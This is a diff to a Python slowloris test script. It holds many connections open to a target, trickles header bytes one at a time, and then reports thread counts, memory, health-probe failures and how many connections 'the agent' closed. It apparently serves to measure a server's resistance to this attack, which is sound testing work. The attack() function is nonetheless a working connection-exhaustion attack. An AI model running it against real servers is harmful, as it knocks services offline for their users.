@@ -151,18 +151,28 @@ def attack(host, port, n, byte_interval, duration, sampler_start):
         err = s.connect_ex((host, port))
         if err not in (0, errno.EINPROGRESS):
             raise SystemExit(f"slowloris: connect failed: {os.strerror(err)}")
-        c = {"sock": s, "slow": i % 2 == 1, "opened": time.time(), "closed": None,
+        c = {"sock": s, "slow": i % 2 == 1, "opened": None, "closed": None,
              "sent": 0, "next": time.time() + (i % 10) * byte_interval / 10}
         conns.append(c)
-        sel.register(s, selectors.EVENT_READ, c)
+        # Writable once established (a SYN dropped by a full accept queue is retried
+        # after 1 s, 3 s, 7 s, ...).
+        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, c)
     print(f"opened {n} connections in {time.time() - sampler_start:.2f} s "
           f"({n // 2} idle, {n - n // 2} sending one header byte every {byte_interval:g} s)")
     payload = head + filler
     end = sampler_start + duration
     open_count = n
     while time.time() < end and open_count:
-        for key, _ in sel.select(timeout=0.05):
+        for key, events in sel.select(timeout=0.05):
             c = key.data
+            if c["opened"] is None and events & selectors.EVENT_WRITE:
+                if c["sock"].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
+                    c["opened"] = time.time()
+                    sel.modify(c["sock"], selectors.EVENT_READ, c)
+                    continue
+                events |= selectors.EVENT_READ  # refused: the read below sees the error
+            if not events & selectors.EVENT_READ:
+                continue
             try:
                 data = c["sock"].recv(65536)
             except BlockingIOError:
@@ -176,13 +186,13 @@ def attack(host, port, n, byte_interval, duration, sampler_start):
                 open_count -= 1
         now = time.time()
         for c in conns:
-            if c["slow"] and c["closed"] is None and now >= c["next"]:
+            if c["slow"] and c["opened"] and c["closed"] is None and now >= c["next"]:
                 c["next"] = now + byte_interval
                 try:
                     c["sock"].send(payload[c["sent"]:c["sent"] + 1])
                     c["sent"] += 1
                 except BlockingIOError:
-                    pass  # still connecting
+                    pass
                 except OSError:
                     c["closed"] = now
                     sel.unregister(c["sock"])
@@ -261,8 +271,9 @@ def run(args, host, port, pid):
     during = [s for s in sampler.samples if s[0] <= attack_end]
     latencies = [s[4] for s in during if s[4] is not None]
     failed = sum(1 for s in during if s[4] is None)
-    closed = [c for c in conns if c["closed"] is not None]
-    still_open = len(conns) - len(closed)
+    established = [c for c in conns if c["opened"] is not None]
+    closed = [c for c in established if c["closed"] is not None]
+    still_open = len(established) - len(closed)
     print(f"samples every 200 ms during the attack: {len(during)}")
     print(f"max threads: {max(s[1] for s in during)}")
     print(f"peak RSS: {max(s[2] for s in during) / 1024:.1f} MiB (VmHWM {hwm / 1024:.1f} MiB)")
@@ -272,13 +283,16 @@ def run(args, host, port, pid):
               f"{failed} of {len(during)} probes failed")
     else:
         print(f"/livez: all {failed} probes failed")
+    last_open = max((c["opened"] for c in established), default=start) - start
+    print(f"attacker connections established: {len(established)} of {len(conns)} "
+          f"(the last {last_open:.1f} s into the attack)")
     if closed:
         last = max(c["closed"] for c in closed) - start
         longest = max(c["closed"] - c["opened"] for c in closed)
-        print(f"attacker connections closed by the agent: {len(closed)} of {len(conns)}; "
-              f"last at {last:.1f} s; longest open {longest:.1f} s")
+        print(f"closed by the agent: {len(closed)} of {len(established)}; the last "
+              f"{last:.1f} s into the attack; longest open {longest:.1f} s")
     else:
-        print(f"attacker connections closed by the agent: none of {len(conns)}")
+        print(f"closed by the agent: none of {len(established)}")
     if still_open:
         print(f"still open when the attack stopped ({args.duration:g} s): {still_open}")
     print(f"threads: {threads0} before, {threads_after} {args.after:g} s after the attack "
